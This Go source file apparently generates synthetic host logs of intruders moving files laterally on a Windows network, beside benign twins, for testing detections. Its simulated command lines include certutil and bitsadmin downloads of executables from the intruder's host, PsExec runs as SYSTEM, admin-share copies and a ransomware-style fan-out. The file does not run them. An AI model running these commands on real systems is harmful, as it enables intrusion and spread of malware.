package synth

import (
	"slices"
	"strings"

	"waybill/internal/model"
)

// Behaviour is a way in which intruders move a file between hosts, as the logs of
// those hosts show it, beside an everyday twin: another host, account, file and hour.
type Behaviour struct {
	Channels []string // the words for it in tables of behaviours
	Script   func(b *Stage) []Shown
	Twin     func(b *Stage) Shown // nil is Stage.Twin
	// Missing names the source that would show it, when the logs of hosts do not: then
	// there is no script.
	Missing string
}

// Shown is a movement that the logs show.
type Shown struct {
	Source, Destination *Host // nil: the logs do not tell
	Channel             string
	User                string // without domain; "" when the logs do not tell
	Name                string
	How                 string // "" is logged and done; else the status or completeness that it has instead
}

// Stage is the hosts of a behaviour: all write the logs that such hosts can write.
type Stage struct {
	*Net
	Entry, Target, Third *Host // where the intruder is, and where the file goes
	Server               *Host // a file server
	Admin, Desk          *Host // of the everyday twin
	Unix
	Account string
	Hash    string
	pids    int
}

// NewStage is an office with an intruder on one workstation.
func NewStage(seed uint64) *Stage {
	n := New(seed)
	b := &Stage{Net: n, Entry: n.Host("WS-31", "10.30.1.31"), Target: n.Host("SRV-08", "10.30.0.8"), Third: n.Host("WS-44", "10.30.1.44"),
		Server: n.Host("FS-02", "10.30.0.5"), Admin: n.Host("ADM-01", "10.30.2.10"), Desk: n.Host("WS-12", "10.30.1.12"), Account: `CORP\h.lang`}
	b.Hash, b.Unix = hashOf([]byte("tool")), newUnix(n)
	for _, h := range []*Host{b.Entry, b.Target, b.Third, b.Server, b.Admin, b.Desk} {
		// Each host's own address, as the first connection of the day shows it.
		n.Spoke(h, h, n.Host("DC-03", "10.30.0.2"), 389, `C:\Windows\System32\lsass.exe`, 700)
	}
	n.Now -= 7 * 3600 * second // the intruder works at night
	return b
}

// user is an account without its domain.
func user(account string) string { return account[strings.LastIndexByte(account, '\\')+1:] }

// Twin is a day's work after the intruder's night: an administrator puts an
// installer on one host.
func (b *Stage) Twin() Shown {
	b.Now = Begin + 90*60*second
	const path = `Temp\LabelPrinterSetup.msi`
	b.Ran(b.Admin, `CORP\it.admin`, `C:\Windows\explorer.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\userinit.exe`, 900, hashOf([]byte("explorer")))
	b.SharePut(b.Desk, b.Admin, `CORP\it.admin`, "C$", path)
	return Shown{b.Admin, b.Desk, "smb", "it.admin", "LabelPrinterSetup.msi", ""}
}

func (b *Stage) later(seconds model.Time) { b.Sleep(seconds * second) }

// push is a copy to a share by a command on the intruder's host, as both ends log it.
func (b *Stage) push(to *Host, share, path, name string) Shown {
	local := `C:\Users\Public\` + name
	b.Ran(b.Entry, b.Account, `C:\Windows\System32\cmd.exe`, `cmd.exe /c copy `+local+` \\`+to.Name+`\`+share+`\`+path, `C:\Windows\explorer.exe`, 4100, hashOf([]byte("cmd")))
	b.SharePut(to, b.Entry, b.Account, share, path)
	return Shown{b.Entry, to, "smb", user(b.Account), name, ""}
}

func (b *Stage) pushOnly(share, path, name string) Shown {
	b.SharePut(b.Target, b.Entry, b.Account, share, path)
	return Shown{b.Entry, b.Target, "smb", user(b.Account), name, ""}
}

// Behaviours are all of them.
var Behaviours = slices.Concat(windowsWays, unixWays, hypervisorWays, otherSources)

// windowsWays are the behaviours of Windows hosts.
var windowsWays = []Behaviour{
	{Channels: []string{"smb_admin_share", "smb_share", "cross_zone_copy", "smb_encrypted", "smb_over_quic", "cobalt_strike_upload", "net_use"},
		Script: func(b *Stage) []Shown { return []Shown{b.push(b.Target, "C$", `Windows\Temp\qupd.exe`, "qupd.exe")} }},
	{Channels: []string{"impacket_smb", "impacket_smbclient"},
		Script: func(b *Stage) []Shown { return []Shown{b.pushOnly("C$", `ProgramData\qlib.dll`, "qlib.dll")} }},
	{Channels: []string{"smb_admin_share+service", "smb_admin_share+psexec", "cobalt_strike_jump", "impacket_psexec", "psexec_clone"},
		Script: func(b *Stage) []Shown {
			s := b.pushOnly("ADMIN$", "kqzvw.exe", "kqzvw.exe")
			b.later(2)
			b.ServiceMade(b.Target, b.Account, "0x1", "kqzvw", `%SystemRoot%\kqzvw.exe`)
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\kqzvw.exe`, `C:\Windows\kqzvw.exe`, `C:\Windows\System32\services.exe`, 5001, b.Hash)
			return []Shown{s}
		}},
	{Channels: []string{"psexec", "psexec_renamed"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Entry, b.Account, `C:\Users\Public\PsExec.exe`, `PsExec.exe \\`+b.Target.Name+` -accepteula -s -c C:\Users\Public\enc64.exe`, `C:\Windows\System32\cmd.exe`, 4200, b.Hash)
			service := b.pushOnly("ADMIN$", "PSEXESVC.exe", "PSEXESVC.exe")
			tool := b.pushOnly("ADMIN$", "enc64.exe", "enc64.exe")
			b.ServiceMade(b.Target, b.Account, "0x1", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, `C:\Windows\System32\services.exe`, 5001, hashOf([]byte("psexesvc")))
			b.Log(b.Target, Sysmon, 17, "PipeName", `\PSEXESVC-`+b.Entry.Name+`-4200-stdin`, "Image", `C:\Windows\PSEXESVC.exe`)
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\enc64.exe`, `enc64.exe`, `C:\Windows\PSEXESVC.exe`, 5002, b.Hash)
			return []Shown{service, tool}
		}},
	{Channels: []string{"smb_admin_share+scheduled_task", "smb_share+scheduled_task"},
		Script: func(b *Stage) []Shown {
			s := b.push(b.Target, "C$", `ProgramData\sync.bat`, "sync.bat")
			b.later(4)
			b.Log(b.Target, Security, 4698, "SubjectUserName", "h.lang", "SubjectDomainName", "CORP", "TaskName", `\sync`, "TaskContent", `<Exec><Command>C:\ProgramData\sync.bat</Command></Exec>`)
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c C:\ProgramData\sync.bat`, `C:\Windows\System32\svchost.exe`, 5003, hashOf([]byte("cmd")))
			return []Shown{s}
		}},
	{Channels: []string{"wmi", "smb_admin_share+wmi", "impacket_smb+wmi", "impacket_wmiexec", "smb_admin_share+powershell"},
		Script: func(b *Stage) []Shown {
			s := b.pushOnly("C$", `Windows\Temp\wmnt.exe`, "wmnt.exe")
			b.later(3)
			b.Ran(b.Target, b.Account, `C:\Windows\Temp\wmnt.exe`, `C:\Windows\Temp\wmnt.exe -s`, `C:\Windows\System32\wbem\WmiPrvSE.exe`, 5004, b.Hash)
			return []Shown{s}
		}},
	{Channels: []string{"smb_worm", "custom_spreader", "ad_fanout_copy"},
		Script: func(b *Stage) []Shown {
			var out []Shown
			for _, to := range []*Host{b.Target, b.Third, b.Server} {
				b.SharePut(to, b.Entry, b.Account, "ADMIN$", "locker.exe")
				out = append(out, Shown{b.Entry, to, "smb", user(b.Account), "locker.exe", ""})
				b.later(2)
			}
			return out
		}},
	{Channels: []string{"mapped_share", "mapped_share_as_drive", "network_and_removable_drive"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Entry, b.Account, `C:\Windows\System32\net.exe`, `net use Q: \\`+b.Server.Name+`\Scans`, `C:\Windows\System32\cmd.exe`, 4300, hashOf([]byte("net")))
			b.FileCreated(b.Entry, `C:\Users\Public\wsvc.exe`, 4301, `Q:\Invoices\viewer.exe`)
			b.SharePut(b.Server, b.Entry, b.Account, "Scans", `Invoices\viewer.exe`)
			b.later(600)
			b.ShareAccess(b.Server, b.Third, `CORP\e.roth`, "0x77", "Scans", `Invoices\viewer.exe`, "0x1")
			b.Ran(b.Third, `CORP\e.roth`, `\\`+b.Server.Name+`\Scans\Invoices\viewer.exe`, `viewer.exe`, `C:\Windows\explorer.exe`, 6100, b.Hash)
			return []Shown{{b.Entry, b.Server, "smb", user(b.Account), "viewer.exe", ""}, {b.Server, b.Third, "smb", "", "viewer.exe", ""}}
		}},
	{Channels: []string{"smb_share_staging", "gpo_files_preference"},
		Script: func(b *Stage) []Shown {
			var out []Shown
			for _, to := range []*Host{b.Target, b.Third} {
				b.Ran(to, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\cmd.exe`, `cmd /c COPY "\\`+b.Server.Name+`\stage$\enc.exe" "C:\Windows\Temp\enc.exe"`, `C:\Windows\PSEXESVC.exe`, 5200, hashOf([]byte("cmd")))
				b.ShareAccess(b.Server, to, `CORP\`+to.Name+`$`, "0x99", "stage$", "enc.exe", "0x120089")
				b.FileCreated(to, `C:\Windows\System32\cmd.exe`, 5200, `C:\Windows\Temp\enc.exe`)
				out = append(out, Shown{b.Server, to, "smb", "", "enc.exe", ""})
				b.later(3)
			}
			return out
		}},
	{Channels: []string{"bits", "bits_smb"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /transfer upd /download /priority high http://`+b.Entry.Addr.String()+`:8000/upd.exe C:\ProgramData\upd.exe`,
				`C:\Windows\System32\wbem\WmiPrvSE.exe`, 5300, hashOf([]byte("bitsadmin")))
			url := "http://" + b.Entry.Addr.String() + ":8000/upd.exe"
			b.Log(b.Target, BITS, 59, "transferId", "{1}", "name", "upd", "Id", "{2}", "url", url, "peer", "", "hr", "0x0", "bytesTotal", "18446744073709551615", "bytesTransferred", "0")
			b.later(4)
			b.Log(b.Target, BITS, 60, "transferId", "{1}", "name", "upd", "Id", "{2}", "url", url, "peer", "", "hr", "0x0", "bytesTotal", "73802", "bytesTransferred", "73802")
			return []Shown{{b.Entry, b.Target, "bits", "", "upd.exe", ""}}
		}},
	{Channels: []string{"certutil_http"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Target, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://`+b.Entry.Addr.String()+`/m.exe C:\Users\Public\m.exe`,
				`C:\Windows\System32\wbem\WmiPrvSE.exe`, 5400, hashOf([]byte("certutil")))
			b.FileCreated(b.Target, `C:\Windows\System32\certutil.exe`, 5400, `C:\Users\Public\m.exe`)
			return []Shown{{b.Entry, b.Target, "http", "", "m.exe", ""}}
		}},
	{Channels: []string{"certutil_unc"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Target, b.Account, `C:\Windows\System32\certutil.exe`, `certutil -urlcache -f \\`+b.Server.Name+`\pub\a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`, 5401, hashOf([]byte("certutil")))
			b.FileCreated(b.Target, `C:\Windows\System32\certutil.exe`, 5401, `C:\Users\Public\a.exe`)
			return []Shown{{b.Server, b.Target, "smb", "", "a.exe", ""}}
		}},
	{Channels: []string{"webdav_share"},
		Script: func(b *Stage) []Shown {
			b.Ran(b.Target, b.Account, `\\`+b.Server.Name+`@80\DavWWWRoot\drop\run.exe`, `run.exe`, `C:\Windows\explorer.exe`, 5500, b.Hash)
			return []Shown{{b.Server, b.Target, "webdav", "", "run.exe", ""}}
		}},
	{Channels: []string{"rdp_drive_or_clipboard", "rdp_clipboard"},
		Script: func(b *Stage) []Shown {
			b.Logon(b.Target, b.Entry, b.Account, 10)
			b.later(90)
			b.Ran(b.Target, b.Account, `C:\Windows\System32\cmd.exe`, `cmd.exe /c copy \\tsclient\c\t\scan.exe C:\Users\Public\scan.exe`, `C:\Windows\explorer.exe`, 5600, hashOf([]byte("cmd")))
			b.FileCreated(b.Target, `C:\Windows\System32\cmd.exe`, 5600, `C:\Users\Public\scan.exe`)
			b.later(60)
			b.FileCreated(b.Target, `C:\Windows\explorer.exe`, 3000, `C:\Users\h.lang\Desktop\dump64.exe`)
			return []Shown{{b.Entry, b.Target, "rdp", "", "scan.exe", ""}, {b.Entry, b.Target, "rdp", user(b.Account), "dump64.exe", "inferred"}}
		}},
	{Channels: []string{"winrm", "winrm_copy"},
		Script: func(b *Stage) []Shown {
			b.Logon(b.Target, b.Entry, b.Account, 3)
			b.later(2)
			b.Ran(b.Target, b.Account, `C:\Windows\System32\wsmprovhost.exe`, `wsmprovhost.exe -Embedding`, `C:\Windows\System32\svchost.exe`, 5700, hashOf([]byte("wsm")))
			b.FileCreated(b.Target, `C:\Windows\System32\wsmprovhost.exe`, 5700, `C:\Users\h.lang\AppData\Local\Temp\__PSScriptPolicyTest_ab12.ps1`)
			b.later(3)
			b.FileCreated(b.Target, `C:\Windows\System32\wsmprovhost.exe`, 5700, `C:\ProgramData\agent.exe`)
			return []Shown{{b.Entry, b.Target, "winrm", user(b.Account), "agent.exe", ""}}
		}},
	{Channels: []string{"ssh_on_windows"},
		Script: func(b *Stage) []Shown {
			b.Spoke(b.Target, b.Entry, b.Target, 22, `C:\Windows\System32\OpenSSH\sshd.exe`, 5800)
			b.Logon(b.Target, b.Entry, b.Account, 3)
			b.later(2)
			b.FileCreated(b.Target, `C:\Windows\System32\OpenSSH\sftp-server.exe`, 5801, `C:\ProgramData\net.exe`)
			return []Shown{{b.Entry, b.Target, "ssh", user(b.Account), "net.exe", ""}}
		}},
	{Channels: []string{"removable_drive"},
		Script: func(b *Stage) []Shown {
			const stick = `USBSTOR\Disk&Ven_Kin&Prod_Stick\0A1B2C3D4E&0`
			b.Log(b.Entry, Security, 6416, "DeviceId", stick, "DeviceDescription", "Kin Stick USB Device", "ClassName", "DiskDrive")
			b.later(60)
			b.FileCreated(b.Entry, `C:\Users\Public\wsvc.exe`, 4800, `E:\Documents.exe`)
			b.later(7000)
			b.Log(b.Third, Security, 6416, "DeviceId", stick, "DeviceDescription", "Kin Stick USB Device", "ClassName", "DiskDrive")
			b.later(40)
			b.Ran(b.Third, `CORP\e.roth`, `F:\Documents.exe`, `F:\Documents.exe`, `C:\Windows\explorer.exe`, 6200, b.Hash)
			return []Shown{{b.Entry, b.Third, "removable", "", "Documents.exe", ""}}
		}},
	{Channels: []string{"web_sync"},
		Script: func(b *Stage) []Shown {
			b.FileCreated(b.Entry, `C:\Windows\System32\cmd.exe`, 4900, `C:\Users\h.lang\OneDrive - Corp\tools\up.exe`)
			b.later(240)
			b.FileCreated(b.Third, `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, 2100, `C:\Users\h.lang\OneDrive - Corp\tools\up.exe`)
			return []Shown{{b.Entry, b.Third, "sync-folder", "", "up.exe", ""}}
		}},
	{Channels: []string{"gpo"},
		Script: func(b *Stage) []Shown {
			const path = `corp.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`
			b.SharePut(b.Server, b.Entry, b.Account, "SYSVOL", path)
			return []Shown{{b.Entry, b.Server, "smb", user(b.Account), "ScheduledTasks.xml", ""}}
		}},
	{Channels: []string{"vm_guest_copy"},
		Script: func(b *Stage) []Shown {
			b.FileCreated(b.Target, `C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, 2400, `C:\Windows\Temp\inst.exe`)
			return []Shown{{nil, b.Target, "guest", "", "inst.exe", ""}}
		}},
	{Channels: []string{"rmm_file_transfer"},
		Script: func(b *Stage) []Shown {
			b.FileCreated(b.Target, `C:\Program Files (x86)\AnyDesk\AnyDesk.exe`, 2500, `C:\Users\Public\nc64.exe`)
			return []Shown{{nil, b.Target, "unknown", "", "nc64.exe", ""}}
		}},
	{Channels: []string{"smb_exploit"},
		Script: func(b *Stage) []Shown {
			b.Spoke(b.Target, b.Entry, b.Target, 445, "System", 4)
			b.later(1)
			b.FileCreated(b.Target, `C:\Windows\System32\lsass.exe`, 640, `C:\Windows\mssecs.exe`)
			return []Shown{{b.Entry, b.Target, "smb", "", "mssecs.exe", ""}}
		}},
	{Channels: []string{"iso_into_ot"},
		Script: func(b *Stage) []Shown { return []Shown{b.pushOnly("Transfer", `kit.iso`, "kit.iso")} }},
}

// otherSources are behaviours that the logs of hosts do not show.
var otherSources = []Behaviour{
	{Channels: []string{"rpc_backdoor_named_pipe", "rpc_p2p"}, Missing: "packets: pipe events carry no file name and no size"},
	{Channels: []string{"software_deployment", "sccm_or_wsus_abuse"}, Missing: "the deployment server's audit log: the agent's own writes look like every deployment's"},
}

// BehaviourOf finds the behaviour of a channel's word.
func BehaviourOf(channel string) (Behaviour, bool) {
	for _, b := range Behaviours {
		for _, c := range b.Channels {
			if c == channel {
				return b, true
			}
		}
	}
	return Behaviour{}, false
}
